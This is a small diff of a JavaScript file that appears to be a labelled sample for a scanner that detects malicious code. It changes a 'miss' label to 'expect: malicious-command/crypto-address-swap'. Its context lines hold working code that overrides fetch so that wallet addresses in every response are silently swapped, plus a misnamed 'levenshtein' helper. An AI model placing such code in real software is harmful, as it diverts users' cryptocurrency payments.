@@ -4,5 +4,5 @@ function levenshtein(a, b) {
   return Math.abs(a.charCodeAt(5) - b.charCodeAt(5));
 }
 const find = new RegExp('0x' + '[a-f0-9]{40}', 'gi');
-// miss: malicious-command/crypto-address-swap
+// expect: malicious-command/crypto-address-swap
 globalThis.fetch = ((old) => async (...given) => new Response((await (await old(...given)).text()).replaceAll(find, nearest)))(fetch);
